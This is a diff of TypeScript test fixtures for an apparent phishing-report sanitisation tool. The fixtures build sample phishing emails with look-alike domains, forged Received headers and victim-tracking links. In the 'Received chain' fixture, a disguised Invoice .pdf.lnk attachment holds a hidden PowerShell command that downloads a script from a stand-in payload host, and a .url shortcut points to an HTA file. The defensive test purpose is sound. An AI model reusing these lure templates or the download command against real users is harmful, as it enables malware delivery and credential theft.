@@ -22,7 +22,12 @@ export const POLICIES = new URL('../../policies', import.meta.url).pathname;
 export const RULES = loadSanitizationRules(POLICIES);
 export const WARNING_LISTS = loadWarningLists(POLICIES);
 
-export const CORP: OrganisationRecord = { id: 'org-corp', name: 'Corp Example Inc.', domains: ['corp.example', 'corp-group.example'], networks: ['198.51.100.0/24', '2001:db8:c0:1::/64'] };
+export const CORP: OrganisationRecord = {
+  id: 'org-corp',
+  name: 'Corp Example Inc.',
+  domains: ['corp.example', 'corp-group.example'],
+  networks: ['198.51.100.0/24', '2001:db8:c0:1::/64'],
+};
 export const RAIL: OrganisationRecord = { id: 'org-rail', name: '東京レール株式会社', domains: ['tokyo-rail.example'], networks: ['192.0.2.128/25'] };
 export const ORGS: readonly OrganisationRecord[] = [CORP, RAIL];
 export const EXCHANGE = { domains: ['c4tap.example'], addresses: ['report@c4tap.example'], networks: [] as string[] };
@@ -53,7 +58,11 @@ export const VICTIM_URLS: MailSpec = {
   ].join('\n'),
   html: `<p>Dear ${VICTIM.name},</p><a href="https://mailbox-verify-portal.xyz/l/${b64url(VICTIM.address)}">Verify</a><img src="https://trk.mailbox-verify-portal.xyz/o.gif?h=${md5(VICTIM.address)}">`,
   messageId: '<20240401.abc123@mailbox-verify-portal.xyz>',
-  headers: { 'X-Mailer': 'PHPMailer 6.1.4 (https://github.com/PHPMailer/PHPMailer)', 'Reply-To': 'Helpdesk <help@quick-pay-transfer.xyz>', 'Delivered-To': VICTIM.address },
+  headers: {
+    'X-Mailer': 'PHPMailer 6.1.4 (https://github.com/PHPMailer/PHPMailer)',
+    'Reply-To': 'Helpdesk <help@quick-pay-transfer.xyz>',
+    'Delivered-To': VICTIM.address,
+  },
   received: [
     `from mx1.corp.example (mx1.corp.example [198.51.100.10]) by mbox.corp.example (Postfix) with ESMTP id 1A; ${DATE}`,
     `from mail.mailbox-verify-portal.xyz (mail.mailbox-verify-portal.xyz [203.0.113.45]) by mx1.corp.example (Postfix) with ESMTPS id 2B for <${VICTIM.address}>; ${DATE}`,
@@ -75,9 +84,7 @@ export const IDN_LOOKALIKE: MailSpec = {
   ].join('\n'),
   messageId: '<expense-0401@соrp.example>',
   headers: { 'Reply-To': 'payments@quick-pay-transfer.xyz' },
-  received: [
-    `from relay.cloudmail-sender.xyz (relay.cloudmail-sender.xyz [203.0.113.80]) by mx1.corp.example (Postfix) with ESMTPS id 9Z; ${DATE}`,
-  ],
+  received: [`from relay.cloudmail-sender.xyz (relay.cloudmail-sender.xyz [203.0.113.80]) by mx1.corp.example (Postfix) with ESMTPS id 9Z; ${DATE}`],
 };
 
 /** A Received chain with participant hops, attacker hops, an IPv6 hop and a forged bottom hop. */
@@ -95,9 +102,25 @@ export const RECEIVED_CHAIN: MailSpec = {
     `from unknown (HELO mx9.corp.example) (198.51.100.99) by mx1.corp.example with SMTP; ${DATE}`,
   ],
   attachments: [
-    { filename: 'download-note.txt', content: Buffer.from(`Documents: https://tender-docs.tokyo-rail-tender.xyz/fy2024/${VICTIM.address}/pack.zip\r\nContact ${VICTIM.address}\r\n`), contentType: 'text/plain' },
-    { filename: 'tender.url', content: Buffer.from('[InternetShortcut]\r\nURL=http://203.0.113.90:8080/tender.hta\r\n'), contentType: 'application/octet-stream' },
-    { filename: `Invoice_${VICTIM.name.replace(' ', '_')}.pdf.lnk`, content: Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), Buffer.from('powershell -w hidden iwr https://cdn.tender-payload.xyz/a.ps1', 'utf16le'), Buffer.alloc(16)]), contentType: 'application/octet-stream' },
+    {
+      filename: 'download-note.txt',
+      content: Buffer.from(`Documents: https://tender-docs.tokyo-rail-tender.xyz/fy2024/${VICTIM.address}/pack.zip\r\nContact ${VICTIM.address}\r\n`),
+      contentType: 'text/plain',
+    },
+    {
+      filename: 'tender.url',
+      content: Buffer.from('[InternetShortcut]\r\nURL=http://203.0.113.90:8080/tender.hta\r\n'),
+      contentType: 'application/octet-stream',
+    },
+    {
+      filename: `Invoice_${VICTIM.name.replace(' ', '_')}.pdf.lnk`,
+      content: Buffer.concat([
+        Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]),
+        Buffer.from('powershell -w hidden iwr https://cdn.tender-payload.xyz/a.ps1', 'utf16le'),
+        Buffer.alloc(16),
+      ]),
+      contentType: 'application/octet-stream',
+    },
   ],
 };
 
@@ -109,7 +132,9 @@ export const MASS_MAILING: MailSpec = {
   text: 'お客様のアカウントは一時停止されています。https://amaz0n-account-security.xyz/verify?session=88213 から確認してください。',
   messageId: '<88213.mass@amaz0n-account-security.xyz>',
   headers: { 'Delivered-To': VICTIM.address },
-  received: [`from bulk7.amaz0n-account-security.xyz (bulk7.amaz0n-account-security.xyz [203.0.113.7]) by mx1.corp.example (Postfix) with ESMTP id M1; ${DATE}`],
+  received: [
+    `from bulk7.amaz0n-account-security.xyz (bulk7.amaz0n-account-security.xyz [203.0.113.7]) by mx1.corp.example (Postfix) with ESMTP id M1; ${DATE}`,
+  ],
 };
 
 /** A Japanese (ISO-2022-JP) mail with the victim's name in the subject and a UTF-8 percent-encoded name in a URL. */
@@ -134,9 +159,21 @@ export interface Fixture {
 }
 
 export const FIXTURES: readonly Fixture[] = [
-  { name: 'victim identifiers in URLs', spec: VICTIM_URLS, style: 'rfc822', options: { note: `Reported by ${VICTIM.name}. Contact csirt@corp.example`, submitter: SUBMITTER } },
+  {
+    name: 'victim identifiers in URLs',
+    spec: VICTIM_URLS,
+    style: 'rfc822',
+    options: { note: `Reported by ${VICTIM.name}. Contact csirt@corp.example`, submitter: SUBMITTER },
+  },
   { name: 'IDN look-alike', spec: IDN_LOOKALIKE, style: 'eml', options: { submitter: SUBMITTER } },
-  { name: 'Received chain', spec: RECEIVED_CHAIN, style: 'rfc822', options: { submitter: SUBMITTER }, yara: [{ rule: 'C4TAP_LNK_Lure', namespace: 'default', tags: ['lnk'], meta: { severity: 'high' } }], av: 'Win.Trojan.Agent-1234' },
+  {
+    name: 'Received chain',
+    spec: RECEIVED_CHAIN,
+    style: 'rfc822',
+    options: { submitter: SUBMITTER },
+    yara: [{ rule: 'C4TAP_LNK_Lure', namespace: 'default', tags: ['lnk'], meta: { severity: 'high' } }],
+    av: 'Win.Trojan.Agent-1234',
+  },
   { name: 'mass mailing', spec: MASS_MAILING, style: 'rfc822', options: { submitter: SUBMITTER } },
   { name: 'Japanese mail', spec: JAPANESE_MAIL, style: 'rfc822', options: { submitter: SUBMITTER, note: '山田さんから転送されました。' } },
   { name: 'Outlook inline forward', spec: VICTIM_URLS, style: 'inline-outlook', options: { submitter: SUBMITTER, note: 'FYI' } },
